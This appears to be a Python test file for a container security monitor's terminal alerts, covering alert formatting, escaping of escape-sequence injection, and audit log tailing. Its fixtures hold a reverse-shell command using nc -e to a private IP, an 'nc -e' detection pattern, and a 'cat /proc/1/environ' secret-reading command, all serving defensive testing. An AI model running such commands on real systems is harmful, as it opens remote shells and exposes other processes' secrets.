"""Alerts in the user's terminal: the spec's format, safe text, tailing the audit log."""

from __future__ import annotations

import os
import time
from pathlib import Path

from coi.monitor import alerts
from coi.monitor.alerts import AlertWatcher, AuditTail, alert_lines, alert_text, printable
from coi.monitor.audit import AuditLog

SHELL = {"container": "coi-abc-1", "severity": "critical", "detector": "reverse_shell",
         "title": "Reverse shell detected", "action": "killed",
         "evidence": {"pid": 1235, "ns_pid": 1235, "cmdline": "nc -e /bin/bash 192.168.1.100 4444",
                      "reason": "command line matches nc -e", "pattern": "nc -e"}}


def test_the_spec_format() -> None:
    assert alert_lines(SHELL, "~/.coi/audit/coi-abc-1.jsonl") == [
        "⚠ SECURITY ALERT [CRITICAL]",
        "Reverse shell detected",
        "",
        "Process 'nc -e /bin/bash 192.168.1.100 4444' (PID 1235) command line matches nc -e",
        "",
        "→ Action taken: killed",
        "→ Logged to audit: ~/.coi/audit/coi-abc-1.jsonl",
    ]
    raw = alert_text(SHELL, "~/x", color=False)
    assert raw.startswith("\r\n⚠ SECURITY ALERT [CRITICAL]\r\n")
    assert "\n" not in raw.replace("\r\n", ""), "every line end is \\r\\n (raw terminal)"


def test_paused_alert_says_how_to_resume_and_other_evidence_shapes() -> None:
    paused = {**SHELL, "severity": "high", "action": "paused", "title": "Environment scan",
              "evidence": {"pid": 900, "ns_pid": 12, "cmdline": "cat /proc/1/environ",
                           "reason": "reads another process's environment",
                           "path": "/proc/1/environ"}}
    lines = alert_lines(paused, "~/l")
    assert lines[3] == ("Process 'cat /proc/1/environ' (PID 12 in the container, host 900) "
                        "reads another process's environment (/proc/1/environ)")
    assert any("coi unfreeze coi-abc-1" in line for line in lines)
    net = {"severity": "warning", "title": "Refused", "action": "alerted",
           "evidence": {"reason": "private", "proto": "tcp", "src": "10.77.0.2", "sport": 3333,
                        "dst": "192.168.5.5", "dport": 22}}
    assert alert_lines(net, "~/l")[3] == "private: tcp 10.77.0.2:3333 → 192.168.5.5:22"
    read = {"severity": "warning", "title": "Large workspace read", "action": "alerted",
            "evidence": {"read_mb": 210.0, "window_s": 12.0, "rate_mb_per_sec": 17.5,
                         "threshold_mb": 50.0, "rate_threshold_mb_per_sec": 10.0}}
    assert "210.0 MB read in 12.0 s" in alert_lines(read, "~/l")[3]


def test_nothing_the_container_controls_reaches_the_terminal_raw() -> None:
    evil = {**SHELL, "title": "x\x1b]0;pwned\x07", "evidence": {
        "cmdline": "sh -c '\x1b[2J\r\nfake prompt\u202e'", "pid": 1}}
    text = alert_text(evil, "~/l", color=False)
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b]0;pwned\\x07" in text and "\\r\\nfake prompt\\u202e" in text
    assert printable("a" * 500, 10) == "a" * 9 + "…"


def write_event(path: Path, **kw: object) -> None:
    AuditLog(path).append({"container": "c", "severity": "warning", "title": "t",
                           "action": "alerted", **kw})


def test_tail_reads_only_new_complete_lines(tmp_path: Path) -> None:
    path = tmp_path / "audit" / "c.jsonl"
    write_event(path, title="before")
    tail = AuditTail(path)
    assert tail.poll() == []
    write_event(path, title="one")
    with path.open("ab") as handle:
        handle.write(b'{"title": "half')
    assert [e["title"] for e in tail.poll()] == ["one"]
    with path.open("ab") as handle:
        handle.write(b'", "severity": "high"}\n')
    assert [e["title"] for e in tail.poll()] == ["half"]
    assert tail.poll() == []


def test_tail_of_a_log_that_does_not_exist_yet_and_rotation(tmp_path: Path) -> None:
    path = tmp_path / "audit" / "c.jsonl"
    tail = AuditTail(path)
    assert tail.poll() == []
    write_event(path, title="first")  # created after the tail started: read whole
    assert [e["title"] for e in tail.poll()] == ["first"]
    write_event(path, title="late in the old file")
    os.link(path, path.with_name("c.2026-03-01.jsonl"))  # rotation: link, then unlink
    path.unlink()
    write_event(path, title="new file")
    assert [e["title"] for e in tail.poll()] == ["late in the old file", "new file"]
    tail.close()


def test_watcher_thread_writes_warnings_and_worse(tmp_path: Path) -> None:
    path = tmp_path / "audit" / "c.jsonl"
    written: list[str] = []
    watcher = AlertWatcher(path, written.append, interval=0.05, log_display="~/l",
                           color=False).start()
    write_event(path, severity="info", title="quiet")
    write_event(path, severity="high", title="loud", action="paused")
    deadline = time.monotonic() + 5
    while not written and time.monotonic() < deadline:
        time.sleep(0.02)
    write_event(path, severity="critical", title="last", action="killed")
    watcher.stop()
    assert len(written) >= 1 and "loud" in written[0] and "quiet" not in "".join(written)
    assert [e["title"] for e in watcher.seen] == ["loud", "last"]
    assert alerts.last_response(watcher.seen) == watcher.seen[-1]
    assert [e["action"] for e in watcher.responses()] == ["paused", "killed"]


def test_terminal_writer_writes_everything(tmp_path: Path) -> None:
    read_fd, write_fd = os.pipe()
    try:
        alerts.terminal_writer(write_fd)("⚠ x\r\n")
        assert os.read(read_fd, 100) == "⚠ x\r\n".encode()
    finally:
        os.close(read_fd)
        os.close(write_fd)
